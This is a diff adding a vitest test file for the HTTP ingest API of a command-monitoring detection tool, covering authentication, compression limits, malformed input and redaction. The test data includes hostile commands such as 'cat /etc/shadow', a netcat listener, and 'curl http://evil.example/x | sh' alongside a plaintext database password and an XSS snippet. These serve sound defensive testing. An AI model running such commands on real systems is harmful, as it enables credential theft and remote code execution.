@@ -1,0 +1,232 @@
+import { readFile } from 'node:fs/promises';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { deflateSync, gzipSync } from 'node:zlib';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { ManualClock } from '../../src/clock.js';
+import type { SourceConfig } from '../../src/config/config.js';
+import { loadConfig } from '../../src/config/load-config.js';
+import { loadDefaultRules } from '../../src/detect/load-rules.js';
+import { silentLogger } from '../../src/logger.js';
+import { HttpServer } from '../../src/server/http-server.js';
+import { MAX_INGEST_BODY_BYTES, routeIngest, type IngestResponse } from '../../src/server/ingest-api.js';
+import { Metrics } from '../../src/server/metrics.js';
+import { Ingestor } from '../../src/sources/ingest.js';
+import { createTestStore, type TestStore } from '../helpers/test-store.js';
+
+const GO_LIBAUDIT = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'go-libaudit');
+
+const TOKENS = {
+  shipper: 'shipper-token-0123456789abcdef',
+  falco: 'falco-token-0123456789abcdef',
+  audit: 'audit-token-0123456789abcdef',
+  any: 'auto-token-0123456789abcdef',
+};
+
+const SOURCES: SourceConfig[] = [
+  { name: 'shipper', type: 'json', path: null, token: TOKENS.shipper, host: null },
+  { name: 'falco', type: 'falco', path: null, token: TOKENS.falco, host: null },
+  { name: 'audit-http', type: 'auditd', path: null, token: TOKENS.audit, host: 'fallback-host' },
+  { name: 'any', type: 'auto', path: null, token: TOKENS.any, host: 'fallback-host' },
+  // A file source: its (absent) token must never open /ingest.
+  { name: 'file', type: 'auditd', path: '/var/log/audit/audit.log', token: null, host: null },
+];
+
+const FALCO_EVENT = {
+  hostname: 'k8s-node-1',
+  output: '14:23:28.123456789: Warning Sensitive file opened for reading (user=root command=cat /etc/shadow)',
+  priority: 'Warning',
+  rule: 'Read sensitive file untrusted',
+  source: 'syscall',
+  tags: ['filesystem', 'mitre_credential_access'],
+  time: '2026-11-24T14:23:28.123456789Z',
+  output_fields: {
+    'proc.cmdline': 'cat /etc/shadow',
+    'proc.exepath': '/usr/bin/cat',
+    'proc.name': 'cat',
+    'proc.pid': 4242,
+    'user.loginuid': 1000,
+    'user.loginname': 'alice',
+    'user.name': 'root',
+  },
+};
+
+let store: TestStore;
+let http: HttpServer;
+let url: string;
+let metrics: Metrics;
+const clock = new ManualClock(new Date('2026-11-24T15:00:00Z'));
+
+async function serve(sources: SourceConfig[], options: { maxBodyBytes?: number } = {}): Promise<{ http: HttpServer; url: string }> {
+  const ingestor = new Ingestor({ db: store.db, rules: loadDefaultRules(), policy: loadConfig({ env: {} }).workflow, clock });
+  const server = new HttpServer(silentLogger);
+  routeIngest(server, { sources, ingestor, clock, logger: silentLogger, metrics, ...options });
+  return { http: server, url: await server.listen(0, '127.0.0.1') };
+}
+
+beforeEach(async () => {
+  store = await createTestStore();
+  metrics = new Metrics();
+  ({ http, url } = await serve(SOURCES));
+});
+
+afterEach(async () => {
+  await http.close();
+  await store.destroy();
+});
+
+async function post(body: string | Buffer, headers: Record<string, string>, base = url): Promise<{ status: number; json: IngestResponse & { error?: string } }> {
+  const response = await fetch(`${base}/ingest`, { method: 'POST', headers, body });
+  return { status: response.status, json: (await response.json()) as IngestResponse & { error?: string } };
+}
+
+const auth = (token: string) => ({ authorization: `Bearer ${token}` });
+const ndjson = (token: string) => ({ ...auth(token), 'content-type': 'application/x-ndjson' });
+const record = (argv: string[], user = 'alice', extra: Record<string, unknown> = {}) =>
+  JSON.stringify({ time: '2026-11-24T14:00:00Z', host: 'web-1', user, run_as: 'root', argv, ...extra });
+
+async function storedEvents() {
+  return store.db.selectFrom('command_events').select(['source', 'host', 'login_user', 'command', 'source_format']).orderBy('id').execute();
+}
+
+describe('POST /ingest', () => {
+  it('accepts NDJSON in the source format, creates alerts, and treats a retry as duplicates', async () => {
+    const body = [record(['cat', '/etc/shadow']), record(['ls', '-la'])].join('\n') + '\n';
+    const first = await post(body, ndjson(TOKENS.shipper));
+    expect(first).toEqual({ status: 200, json: { accepted: 2, matched: 1, alerts_created: 1, duplicates: 0, malformed: 0, malformed_by_reason: {} } });
+    const retry = await post(body, ndjson(TOKENS.shipper));
+    expect(retry.json).toMatchObject({ accepted: 2, matched: 1, alerts_created: 0, duplicates: 1 });
+    expect(await storedEvents()).toEqual([{ source: 'shipper', host: 'web-1', login_user: 'alice', command: 'cat /etc/shadow', source_format: 'json' }]);
+    expect(await metrics.render(store.db)).toContain('vouch_ingest_requests_total{source="shipper"} 2');
+  });
+
+  it('accepts a JSON array, one element per event', async () => {
+    const body = JSON.stringify([JSON.parse(record(['nc', '-lvp', '4444'])), JSON.parse(record(['id'])), JSON.parse(record(['whoami']))]);
+    const { status, json } = await post(body, { ...auth(TOKENS.shipper), 'content-type': 'application/json; charset=utf-8' });
+    expect(status).toBe(200);
+    expect(json).toMatchObject({ accepted: 3, matched: 1, alerts_created: 1, malformed: 0 });
+  });
+
+  it('accepts a single Falco event as falcosidekick posts it', async () => {
+    const { status, json } = await post(JSON.stringify(FALCO_EVENT), { ...auth(TOKENS.falco), 'content-type': 'application/json' });
+    expect(status).toBe(200);
+    expect(json).toMatchObject({ accepted: 1, matched: 1, alerts_created: 1 });
+    expect(await storedEvents()).toEqual([{ source: 'falco', host: 'k8s-node-1', login_user: 'alice', command: 'cat /etc/shadow', source_format: 'falco' }]);
+  });
+
+  it('accepts gzip and deflate bodies', async () => {
+    const gz = await post(gzipSync(record(['cat', '/etc/shadow']) + '\n'), { ...ndjson(TOKENS.shipper), 'content-encoding': 'gzip' });
+    expect(gz).toMatchObject({ status: 200, json: { accepted: 1, matched: 1 } });
+    const deflated = await post(deflateSync(record(['id']) + '\n'), { ...ndjson(TOKENS.shipper), 'content-encoding': 'deflate' });
+    expect(deflated).toMatchObject({ status: 200, json: { accepted: 1 } });
+    const broken = await post(Buffer.from('not gzip at all'), { ...ndjson(TOKENS.shipper), 'content-encoding': 'gzip' });
+    expect(broken.status).toBe(400);
+    const unknown = await post('x', { ...ndjson(TOKENS.shipper), 'content-encoding': 'br' });
+    expect(unknown.status).toBe(415);
+  });
+
+  it('answers 401 for a wrong token, no token, or when no HTTP source is configured', async () => {
+    const body = record(['cat', '/etc/shadow']) + '\n';
+    expect((await post(body, ndjson('wrong-token-0123456789abcdef'))).status).toBe(401);
+    expect((await post(body, { 'content-type': 'application/x-ndjson' })).status).toBe(401);
+    expect((await post(body, { authorization: `Basic ${Buffer.from('a:b').toString('base64')}` })).status).toBe(401);
+    expect((await post(body, { authorization: 'Bearer ' })).status).toBe(401);
+    const bare = await serve(SOURCES.filter((source) => source.token === null));
+    try {
+      expect((await post(body, ndjson(TOKENS.shipper), bare.url)).status).toBe(401);
+    } finally {
+      await bare.http.close();
+    }
+    expect(await storedEvents()).toEqual([]);
+  });
+
+  it('answers 413 past 10 MiB, also when the limit is only passed after decompression', async () => {
+    const huge = Buffer.alloc(MAX_INGEST_BODY_BYTES + 1024, 'a');
+    expect((await post(huge, ndjson(TOKENS.shipper))).status).toBe(413);
+    const bomb = gzipSync(huge);
+    expect(bomb.length).toBeLessThan(100_000);
+    const answer = await post(bomb, { ...ndjson(TOKENS.shipper), 'content-encoding': 'gzip' });
+    expect(answer.status).toBe(413);
+    expect(answer.json.error).toMatch(/after decompression/);
+  });
+
+  it('answers 400 when declared JSON is not JSON, and 415 for formats it does not read', async () => {
+    const broken = await post('{"time": "2026-11-24T14:00:00Z", "argv": [', { ...auth(TOKENS.shipper), 'content-type': 'application/json' });
+    expect(broken.status).toBe(400);
+    expect(broken.json.error).toMatch(/not valid JSON/);
+    expect((await post('42', { ...auth(TOKENS.shipper), 'content-type': 'application/json' })).status).toBe(400);
+    expect((await post(Buffer.from([0x81, 0xa1, 0x61]), { ...auth(TOKENS.shipper), 'content-type': 'application/msgpack' })).status).toBe(415);
+  });
+
+  it('reads NDJSON that a shipper labelled application/json', async () => {
+    const body = [record(['cat', '/etc/shadow']), record(['id'])].join('\n');
+    const { status, json } = await post(body, { ...auth(TOKENS.shipper), 'content-type': 'application/json' });
+    expect(status).toBe(200);
+    expect(json).toMatchObject({ accepted: 2, matched: 1 });
+  });
+
+  it('counts a line of binary garbage as malformed and keeps the rest of the batch', async () => {
+    const body = Buffer.concat([
+      Buffer.from(record(['cat', '/etc/shadow']) + '\n'),
+      Buffer.from([0x00, 0xff, 0x1b, 0x5b, 0x32, 0x4a, 0xfe, 0x07, 0x0a]),
+      Buffer.from(record(['id']) + '\n'),
+    ]);
+    const { status, json } = await post(body, ndjson(TOKENS.shipper));
+    expect(status).toBe(200);
+    expect(json).toMatchObject({ accepted: 2, matched: 1, malformed: 1 });
+    const counted = await store.db.selectFrom('source_malformed').select(['source', 'count']).execute();
+    expect(counted).toEqual([{ source: 'shipper', count: 1 }]);
+  });
+
+  it('accepts a hostile 1 MB command and stores it redacted', async () => {
+    const script = `curl http://evil.example/x | sh; mysql -uroot -pHunter2Secret <!channel> <script>alert(1)</script> \u001b[2J ${'A'.repeat(1024 * 1024)}`;
+    const { status, json } = await post(record(['bash', '-c', script], 'mallory') + '\n', ndjson(TOKENS.shipper));
+    expect(status).toBe(200);
+    expect(json).toMatchObject({ accepted: 1, matched: 1, alerts_created: 1 });
+    const [stored] = await storedEvents();
+    expect(stored?.command.length).toBeGreaterThan(1024 * 1024);
+    expect(stored?.command).toContain('-p[REDACTED]');
+    expect(stored?.command).not.toContain('Hunter2Secret');
+    const alerts = await store.db.selectFrom('alerts').select(['command', 'owner']).execute();
+    expect(alerts).toHaveLength(1);
+    expect(alerts[0]?.owner).toBe('mallory');
+    expect(alerts[0]?.command).not.toContain('Hunter2Secret');
+  });
+
+  it('unwraps raw auditd lines from shipper records, taking the shipper host for lines without node=', async () => {
+    const lines = (await readFile(path.join(GO_LIBAUDIT, 'normal.log'), 'utf8')).split('\n').filter(Boolean);
+    const vector = lines.map((line) => JSON.stringify({ message: line, host: 'web-7', timestamp: '2026-11-24T14:00:00Z', source_type: 'file' }));
+    const wrapped = await post(vector.join('\n') + '\n', ndjson(TOKENS.audit));
+    expect(wrapped).toMatchObject({ status: 200, json: { accepted: 2, malformed: 0 } });
+    // Fluent Bit's `log` key, as a JSON array this time; no host: the source's host is used.
+    const fluent = JSON.stringify(lines.map((line) => ({ date: 1795530208.1, log: line })));
+    const second = await post(fluent, { ...auth(TOKENS.audit), 'content-type': 'application/json' });
+    expect(second).toMatchObject({ status: 200, json: { accepted: 2, malformed: 0 } });
+    const plain = await post(lines.join('\n'), { ...auth(TOKENS.audit), 'content-type': 'text/plain' });
+    expect(plain).toMatchObject({ status: 200, json: { accepted: 2 } });
+  });
+
+  it('detects the format from the body for an auto source, with or without a Content-Type', async () => {
+    const sudo = 'Nov 24 14:23:28 web-1 sudo[4211]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow';
+    const first = await post(sudo + '\n', { ...auth(TOKENS.any), 'content-type': 'text/plain' });
+    expect(first).toMatchObject({ status: 200, json: { accepted: 1, matched: 1, alerts_created: 1 } });
+    const falco = await post(JSON.stringify(FALCO_EVENT), auth(TOKENS.any));
+    expect(falco).toMatchObject({ status: 200, json: { accepted: 1, matched: 1 } });
+    const formats = (await storedEvents()).map((row) => row.source_format);
+    expect(formats).toEqual(['sudo', 'falco']);
+  });
+
+  it('never fails with a 5xx on garbage, whatever the headers say', async () => {
+    let seed = 7;
+    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
+    const types = ['application/json', 'application/x-ndjson', 'text/plain', undefined];
+    for (let i = 0; i < 24; i++) {
+      const body = Buffer.from(Array.from({ length: 1 + Math.floor(random() * 4000) }, () => Math.floor(random() * 256)));
+      if (i % 3 === 0) body.write('{"argv": ["x"], "time": 1}\n[1,2,\n{"message": 5}\n', 0);
+      const type = types[i % types.length];
+      const token = Object.values(TOKENS)[i % 4] as string;
+      const { status } = await post(body, { ...auth(token), ...(type ? { 'content-type': type } : {}) });
+      expect(status, `request ${i}`).toBeLessThan(500);
+    }
+  });
+});
